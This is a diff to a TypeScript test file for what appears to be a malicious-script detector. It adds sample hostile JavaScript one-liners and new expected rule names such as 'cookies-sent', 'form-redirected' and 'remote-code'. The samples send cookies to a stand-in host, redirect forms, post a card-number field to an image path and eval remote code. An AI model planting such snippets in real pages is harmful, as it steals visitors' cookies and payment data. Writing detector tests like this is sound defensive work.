@@ -35,7 +35,7 @@ describe('applyTrace', function () {
 
   it('adds numbers of the run to the vector', async () => {
     const [script] = (await run(skimmer)).scripts;
-    const number = (name: string): number => script!.features[featureNames.indexOf(`emulation@1/${name}`)]!;
+    const number = (name: string): number => script!.features[featureNames.indexOf(`emulation@2/${name}`)]!;
     assert.equal(script!.features.length, featureNames.length);
     assert.equal(number('ran'), 1);
     assert.ok(number('payment-proven-by-canary') > 0);
@@ -62,7 +62,7 @@ describe('applyTrace', function () {
   it('does not run what only computes', async () => {
     const { scripts } = await run('var total = 0; for (var i = 0; i < 9; i++) total += i * i;');
     assert.equal(scripts[0]!.timings.emulationMs, undefined);
-    assert.equal(scripts[0]!.features[featureNames.indexOf('emulation@1/ran')], 0);
+    assert.equal(scripts[0]!.features[featureNames.indexOf('emulation@2/ran')], 0);
   });
 
   it('gives the same result twice', async () => {
@@ -77,6 +77,13 @@ describe('applyTrace', function () {
       `document.write('<ifr'+'ame src="http://'+${hidden('x.bad.example')}+'/" width=0 height=0></iframe>')`,
       `var s = document.createElement('script'); s.src = ${hidden('https://cdn.bad.example/x.js')}; document.head.appendChild(s)`,
       `var s = new WebSocket('wss://pool.example/'); s.onopen = function () { s.send('{"method":"login","params":{}}') }`,
+      `if (/google/.test(document.referrer)) location.href = ${hidden('https://spam.bad.example/')}`,
+      `new Image().src = 'https://x.bad.example/?' + document.cookie`,
+      `var f = document.createElement('iframe'); f.style.cssText = 'position:fixed;width:100%;height:100%;z-index:99999'; f.src = 'https://x.bad.example/'; document.body.appendChild(f)`,
+      `document.write('<style>.x{position:absolute;left:-9999px}</style>')`,
+      `document.forms[0].action = 'https://x.bad.example/take'`,
+      `document.querySelector('form').addEventListener('submit', function () { fetch('/media/a.png', { method: 'POST', body: document.querySelector('#cc_number').value }) })`,
+      `var r = new XMLHttpRequest(); r.open('GET', 'https://x.bad.example/'); r.onload = function () { if (r.responseText.indexOf('mark') >= 0) eval(r.responseText) }; r.send()`,
       `var f = window.fetch; window.fetch = function () { new Image().src = 'https://x.example/'; return f.apply(this, arguments) }`,
     ];
     const seen = new Set<string>();
@@ -92,11 +99,20 @@ describe('applyTrace', function () {
           assert.ok(rank >= least! && rank <= most!, `${one.rule} gave ${one.severity}`);
         }
     assert.deepEqual([...seen].sort(), [
+      'chosen-visitors',
+      'cookies-sent',
+      'form-redirected',
+      'hidden-content-written',
       'hidden-destination',
+      'hidden-frame-inserted',
       'hidden-frame-written',
       'mining-pool',
+      'page-covered',
+      'payment-to-odd-path',
+      'remote-code',
       'requests-intercepted',
       'typed-data-sent',
+      'visitor-sent-away',
     ]);
   });
 });
